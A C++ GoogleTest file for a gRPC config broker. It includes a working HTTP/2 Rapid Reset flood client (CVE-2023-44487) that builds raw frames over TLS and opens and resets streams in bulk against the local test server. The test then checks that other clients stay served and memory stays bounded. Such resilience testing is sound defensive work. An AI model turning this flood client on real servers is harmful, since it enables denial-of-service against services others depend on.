#include <absl/strings/str_cat.h>
#include <absl/time/clock.h>
#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <openssl/ssl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <fstream>
#include <memory>
#include <string>
#include <thread>

#include "broker/service_under_test.h"

namespace broker {
namespace {

using ::testing::Lt;

constexpr uint8_t kData = 0, kHeaders = 1, kRstStream = 3, kSettings = 4;
constexpr uint8_t kEndStream = 1, kEndHeaders = 4;
constexpr int kStreamsAWrite = 64;
constexpr int kAttackers = 2;
#ifdef __SANITIZE_ADDRESS__
constexpr bool kIsAsan = true;  // it keeps what is freed
#else
constexpr bool kIsAsan = false;
#endif

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  const auto size = static_cast<uint32_t>(payload.size());
  std::string frame;
  for (const int shift : {16, 8, 0}) frame += static_cast<char>(size >> shift);
  frame += static_cast<char>(type);
  frame += static_cast<char>(flags);
  for (const int shift : {24, 16, 8, 0}) frame += static_cast<char>(stream >> shift);
  return frame + payload;
}

// HPACK: a literal that is not indexed. Both are shorter than 16 KB.
std::string Text(const std::string& text) {
  std::string length;
  if (text.size() < 127) {
    length += static_cast<char>(text.size());
  } else {
    const size_t rest = text.size() - 127;
    length = {'\x7f', static_cast<char>(0x80 | (rest & 0x7f)), static_cast<char>(rest >> 7)};
  }
  return length + text;
}
std::string Header(const std::string& name, const std::string& value) {
  return std::string(1, '\0') + Text(name) + Text(value);
}

// A client that opens streams and resets them at once, as fast as it can (CVE-2023-44487): none counts as open, so no
// limit of HTTP/2 stops it. gRPC has no client that does so.
class Flooder {
 public:
  Flooder(int port, const std::string& token)
      : context_(SSL_CTX_new(TLS_client_method())), ssl_(SSL_new(context_)), socket_(socket(AF_INET, SOCK_STREAM, 0)) {
    sockaddr_in address{.sin_family = AF_INET, .sin_port = htons(static_cast<uint16_t>(port))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    EXPECT_EQ(connect(socket_, reinterpret_cast<const sockaddr*>(&address), sizeof(address)), 0);
    const timeval patience{.tv_sec = 2};
    setsockopt(socket_, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
    const unsigned char h2[] = {2, 'h', '2'};
    SSL_set_alpn_protos(ssl_, h2, sizeof(h2));
    SSL_set_fd(ssl_, socket_);
    EXPECT_EQ(SSL_connect(ssl_), 1);
    EXPECT_TRUE(Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(kSettings, 0, 0, "")));
    headers_ = Header(":method", "POST") + Header(":scheme", "https") +
               Header(":path", "/mcsa.v1.ConfigService/WatchConfigs") + Header(":authority", kServerName) +
               Header("te", "trailers") + Header("content-type", "application/grpc") +
               Header("authorization", "Bearer " + token);
  }
  ~Flooder() {
    SSL_free(ssl_);
    SSL_CTX_free(context_);
    close(socket_);
  }

  // Opens and resets a few streams; false when the server takes no more.
  bool Flood() {
    std::string frames;
    for (int i = 0; i < kStreamsAWrite; ++i, next_ += 2) {
      frames += Frame(kHeaders, kEndHeaders, next_, headers_) +
                Frame(kData, kEndStream, next_, std::string(5, '\0')) +  // an empty request
                Frame(kRstStream, 0, next_, {0, 0, 0, 8});
    }
    return Write(frames);
  }

 private:
  bool Write(const std::string& bytes) { return SSL_write(ssl_, bytes.data(), static_cast<int>(bytes.size())) > 0; }

  SSL_CTX* const context_;
  SSL* const ssl_;
  const int socket_;
  std::string headers_;
  uint32_t next_ = 1;
};

size_t ResidentBytes() {
  std::ifstream statm("/proc/self/statm");
  size_t pages = 0;
  statm >> pages >> pages;
  return pages * static_cast<size_t>(sysconf(_SC_PAGESIZE));
}

class ResetFloodTest : public ServiceUnderTest {};

TEST_F(ResetFloodTest, OthersAreServedAndMemoryIsBounded) {
  std::atomic<int> reviews = 0;
  review_ = [&](const k8s::HttpRequest& request) {
    ++reviews;
    absl::SleepFor(absl::Milliseconds(5));  // as an API server takes
    return Review(request);
  };
  const auto watch = Open("other");
  AwaitStreams(1);
  const size_t before = ResidentBytes();

  std::atomic<bool> done = false;
  std::atomic<int> streams = 0, connections = 0;
  std::vector<std::thread> attackers;
  for (int i = 0; i < kAttackers; ++i) {
    attackers.emplace_back([&] {
      while (!done) {
        Flooder flooder(server_->port(), PodToken("pod"));
        ++connections;
        while (!done && flooder.Flood()) streams += kStreamsAWrite;
      }
    });
  }
  absl::Duration slowest_change, slowest_stream;
  const absl::Time end = absl::Now() + absl::Seconds(4);
  for (int i = 0; absl::Now() < end; ++i) {
    const std::string reason = absl::StrCat("Change", i);
    absl::Time start = absl::Now();
    store_.Set({"ns", "a"}, Snapshot("a", reason), /*tell=*/true);
    while (Next(*watch) != reason) {
    }
    slowest_change = std::max(slowest_change, absl::Now() - start);
    start = absl::Now();
    AddPod(absl::StrCat("new", i));
    EXPECT_EQ(Next(*Open(absl::StrCat("new", i))), reason);
    slowest_stream = std::max(slowest_stream, absl::Now() - start);
    absl::SleepFor(absl::Milliseconds(100));
  }
  const size_t during = ResidentBytes();
  done = true;
  for (std::thread& attacker : attackers) attacker.join();
  std::cout << streams << " streams of " << connections << " connections reset, " << reviews
            << " TokenReviews; a change took " << slowest_change << " at most, a new stream " << slowest_stream << "; "
            << (during - before) / 1024 << " KiB more\n";
  EXPECT_THAT(slowest_change, Lt(absl::Seconds(5)));
  EXPECT_THAT(slowest_stream, Lt(absl::Seconds(5)));
  EXPECT_GT(connections, kAttackers);  // each is thrown out, again and again
  if (!kIsAsan) {
    EXPECT_THAT(during, Lt(before + (size_t{64} << 20)));
  }
}

}  // namespace
}  // namespace broker
